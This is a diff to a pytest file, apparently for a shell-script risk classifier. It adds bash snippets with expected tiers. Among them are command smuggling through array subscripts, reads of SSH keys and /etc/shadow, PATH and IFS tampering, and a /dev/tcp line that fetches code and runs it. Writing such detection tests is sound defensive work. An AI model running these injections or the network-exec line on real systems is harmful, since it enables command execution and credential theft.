@@ -164,6 +164,53 @@ TRAPS: tuple[tuple[str, Tier, str], ...] = (
     ("(trap 'touch x' EXIT)", Tier.WRITE, "hostile: in a subshell"),
     ("trap 'trap \"touch x\" EXIT' EXIT", Tier.WRITE, "hostile: a trap that sets one"),
 )
+
+VALUES: tuple[tuple[str, Tier, str], ...] = (
+    ("x=(a); declare x='([$(touch b)]=c)'", Tier.UNKNOWN, "found on the way: runs it"),
+    ("x=(a); y=$(cat a.txt); typeset \"x=$y\"", Tier.UNKNOWN, "likewise"),
+    ("x=(a); $y x='([$(touch b)]=c)'", Tier.UNKNOWN, "likewise, perhaps"),
+    ("declare -a x; declare x='([$(touch b)]=c)'", Tier.UNKNOWN, "likewise"),
+    ("mapfile x < a.txt; declare x=\"$(cat a.txt)\"", Tier.UNKNOWN, "likewise"),
+    ("declare -A x; echo a", Tier.UNKNOWN, "names by text"),
+    ("declare -n x=y; x=1", Tier.UNKNOWN, "a name for another one"),
+    ("declare -i x='a[$(touch b)]'", Tier.UNKNOWN, "D7: evaluated"),
+    ("declare -a x=(a b); echo \"${x[1]}\"", Tier.READ, "an array"),
+    ("f() { local x=(~/.ssh/id_rsa a); cat \"${x[0]}\"; }; f", Tier.SECRET, "its elements are known"),
+    ("x=a.txt; f() { local x=(/etc/shadow); }; f; cat \"$x\"", Tier.READ, "its own array is gone afterwards"),
+    ("local x=($(touch a))", Tier.WRITE, "every word is walked"),
+    ("mapfile -t x < a.txt; echo \"${x[0]}\"", Tier.READ, "lines of a file"),
+    ("mapfile -C 'touch a' x < a.txt", Tier.UNKNOWN, "hostile: runs a command for them"),
+    ("mapfile 'x[$(touch a)]' < a.txt", Tier.UNKNOWN, "hostile: D7"),
+    ("getopts ab: x; echo $x", Tier.READ, "flags of the script"),
+    ("getopts ab: 'x[$(touch a)]'", Tier.UNKNOWN, "hostile: D7"),
+    ("let 'x[$(touch a)]'", Tier.UNKNOWN, "hostile: D7"),
+    ("unset 'x[$(touch a)]'", Tier.UNKNOWN, "hostile: D7"),
+    ("wait -p 'x[$(touch a)]'", Tier.UNKNOWN, "hostile: D7"),
+    ("read 'x[$(touch a)]'", Tier.UNKNOWN, "hostile: D7"),
+    ("test -v 'x[$(touch a)]'", Tier.UNKNOWN, "hostile: D7"),
+    ("[ -v 'x[$(touch a)]' ]", Tier.UNKNOWN, "hostile: D7"),
+    ("SECONDS=0; ls; echo $SECONDS", Tier.READ, "a clock"),
+    ("SECONDS=-1; x=$SECONDS; sort $x -o b", Tier.UNKNOWN, "not set to that"),
+    ("SECONDS='x[$(touch a)]'", Tier.UNKNOWN, "hostile: D7"),
+    ("IFS=$'\\n\\t'; for x in a b; do echo $x; done", Tier.READ, "splits less than before"),
+    ("IFS=,; x=-o,out; sort $x", Tier.UNKNOWN, "hostile: splits elsewhere"),
+    ("IFS=$'\\n'; x='a -o out'; sort $x", Tier.UNKNOWN, "splits, or not"),
+    ("IFS=$'\\n'; unset IFS; ls", Tier.READ, "as it was"),
+    ("IFS=$x; ls", Tier.UNKNOWN, "hostile: splits anywhere"),
+    (": \"${x:=a.txt}\"; cat \"$x\"", Tier.READ, "a default that is kept"),
+    (": \"${x:=-o}\"; sort \"$x\" b", Tier.UNKNOWN, "hostile: and counts"),
+    ("x=; : \"${x:=/etc/shadow}\"; cat \"$x\"", Tier.SECRET, "hostile: likewise"),
+    (": ${PATH:=.}; ls", Tier.UNKNOWN, "hostile: where programs are"),
+    (": ${x:=$(touch a)}", Tier.WRITE, "D4: it runs"),
+    ("shopt -s nullglob globstar; ls **/*.py", Tier.READ, "which files a pattern matches"),
+    ("shopt -s dotglob; ls *", Tier.UNKNOWN, "hidden ones, too"),
+    ("exec 3< a.txt; read -r x <&3; echo \"$x\"", Tier.READ, "a descriptor that the script opened"),
+    ("ls 3>&1 1>&2 2>&3", Tier.READ, "swaps them"),
+    ("ls >&4", Tier.UNKNOWN, "one that somebody else opened"),
+    ("ls 4>&4 >&4", Tier.UNKNOWN, "likewise"),
+    ("exec 3<>/dev/tcp/example.org/80; sh <&3", Tier.UNKNOWN, "hostile: from a network"),
+    ("sleep 1 & x=$!; wait $x", Tier.READ, "a number"),
+)
 # fmt: on
 
 
@@ -184,5 +231,12 @@ def test_only_numbers_are_evaluated(script: str, tier: Tier, why: str) -> None:
 @pytest.mark.threat("T01")
 @pytest.mark.parametrize(("script", "tier", "why"), TRAPS, ids=[row[0] for row in TRAPS])
 def test_a_trap_is_judged_for_when_it_runs(script: str, tier: Tier, why: str) -> None:
+    found = judge(script)
+    assert found.tiers[0] is tier, (why, [(str(reason.tier), reason.text) for reason in found.reasons])
+
+
+@pytest.mark.threat("T01")
+@pytest.mark.parametrize(("script", "tier", "why"), VALUES, ids=[row[0] for row in VALUES])
+def test_what_sets_a_variable_is_known_or_unknown(script: str, tier: Tier, why: str) -> None:
     found = judge(script)
     assert found.tiers[0] is tier, (why, [(str(reason.tier), reason.text) for reason in found.reasons])
